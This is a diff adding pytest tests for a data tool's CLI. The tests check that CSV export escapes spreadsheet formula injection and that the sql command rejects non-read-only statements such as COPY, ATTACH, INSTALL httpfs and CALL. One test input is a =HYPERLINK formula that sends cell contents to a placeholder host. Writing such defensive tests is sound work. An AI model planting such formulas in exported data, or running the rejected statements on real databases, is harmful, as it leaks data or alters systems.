@@ -1,12 +1,16 @@
 """The `compute-ledger` console script, run as a user runs it."""
 
+import csv
+import io
 import json
 import os
 import subprocess
 import sys
 from pathlib import Path
 
-from conftest import MINI_INPUT
+import pytest
+
+from conftest import MINI_INPUT, TESTS_DIR
 
 SCRIPT = Path(sys.executable).parent / "compute-ledger"
 
@@ -79,3 +83,89 @@ def test_run_failure_names_the_file_row_and_column(tmp_path):
     assert out.returncode == 1
     assert "assumptions.csv, row 2, column 'value_mid'" in out.stderr
     assert "Traceback" not in out.stdout + out.stderr
+
+
+# --- issue 11, hostile files and queries ----------------------------------------------------
+
+FORMULAS = (
+    "select '=HYPERLINK(\"http://x\"&A1,\"source\")' as note, -5 as n, '-5' as minus_text, "
+    "'+1' as plus, '@SUM(A1)' as at, chr(9) || 'tab' as tab, 'a=b' as plain"
+)
+
+
+def test_sql_csv_escapes_formulas_unless_told_not_to(mini_warehouse):
+    out = cli("sql", FORMULAS, "--format", "csv", db=mini_warehouse)
+    assert out.returncode == 0, out.stderr
+    [header, row] = list(csv.reader(io.StringIO(out.stdout)))
+    assert dict(zip(header, row)) == {
+        "note": "'=HYPERLINK(\"http://x\"&A1,\"source\")",
+        "n": "-5",  # a number stays a number
+        "minus_text": "'-5",
+        "plus": "'+1",
+        "at": "'@SUM(A1)",
+        "tab": "'\ttab",
+        "plain": "a=b",
+    }
+    raw = cli("sql", FORMULAS, "--format", "csv", "--no-escape-formulas", db=mini_warehouse)
+    [_, row] = list(csv.reader(io.StringIO(raw.stdout)))
+    assert row[0] == '=HYPERLINK("http://x"&A1,"source")' and row[2] == "-5"
+    assert "--no-escape-formulas" in cli("sql", "--help").stdout
+
+
+@pytest.mark.parametrize(
+    ("query", "got"),
+    [
+        ("call enable_logging(storage='file', storage_path='{tmp}/log')", "CALL"),
+        ("pragma version", "PRAGMA"),
+        ("select 1; select 2", "2 statements"),
+        ("copy (select 1) to '{tmp}/out.csv'", "COPY"),
+        ("attach '{tmp}/other.duckdb' as other", "ATTACH"),
+        ("set threads = 1", "SET"),
+        ("install httpfs", "INSTALL"),
+        ("explain analyze delete from marts.leverage", "DELETE"),
+    ],
+    ids=["call", "pragma", "two-statements", "copy", "attach", "set", "install", "explain-delete"],
+)
+def test_sql_refuses_anything_but_one_read_only_query(mini_warehouse, tmp_path, query, got):
+    out = cli("sql", query.format(tmp=tmp_path), db=mini_warehouse)
+    assert out.returncode == 1, out.stdout + out.stderr
+    assert out.stderr == f"error: only a single read-only query (select …) is allowed; got {got}\n"
+    assert list(tmp_path.iterdir()) == []  # nothing written, nothing attached
+
+
+def test_a_table_function_cannot_change_settings(mini_warehouse, tmp_path):
+    out = cli("sql", f"select * from enable_logging(storage='file', storage_path='{tmp_path}/log')", db=mini_warehouse)
+    assert out.returncode == 1 and "configuration has been locked" in out.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("query", "first_line"),
+    [
+        ("select 1 as one", "one"),
+        ("with rounds as (select * from marts.leverage_rounds) select count(*) as n from rounds", "n"),
+        ("from marts.leverage select company order by company limit 1", "company"),
+        ("describe marts.leverage", "column_name,column_type,null,key,default,extra"),
+        ("summarize select 1 as x", "column_name,column_type,min,max,approx_unique,avg,std,q25,q50,q75,count,null_percentage"),
+        ("show tables", "name"),
+        ("explain select 1", "explain_key,explain_value"),
+        ("pivot (select 'a' as k, 1 as v) on k using sum(v)", "a"),
+    ],
+    ids=["select", "with", "from-first", "describe", "summarize", "show", "explain", "pivot"],
+)
+def test_sql_read_only_forms_still_work(mini_warehouse, query, first_line):
+    out = cli("sql", query, "--format", "csv", db=mini_warehouse)
+    assert out.returncode == 0, out.stderr
+    assert out.stdout.splitlines()[0] == first_line
+
+
+def test_run_failure_is_our_message_without_class_names(tmp_path):
+    folder = tmp_path / "input"
+    subprocess.run(["cp", "-r", str(MINI_INPUT), str(folder)], check=True)
+    bad = folder / "funding_events_ragged_row.csv"
+    bad.write_bytes((TESTS_DIR / "corpus" / "funding_events_ragged_row.csv").read_bytes())
+    out = cli("run", db=tmp_path / "w.duckdb", env={"COMPUTE_LEDGER_INPUT": str(folder), "DAGSTER_HOME": str(tmp_path / "home")})
+    assert out.returncode == 1
+    [line] = [line for line in out.stderr.splitlines() if line.startswith("Run failed:")]
+    assert line == f"Run failed: raw__funding_events: {bad}, row 3: has 25 fields where the header has 23"
+    assert "InputFileError" not in out.stdout + out.stderr and "assets." not in out.stdout + out.stderr
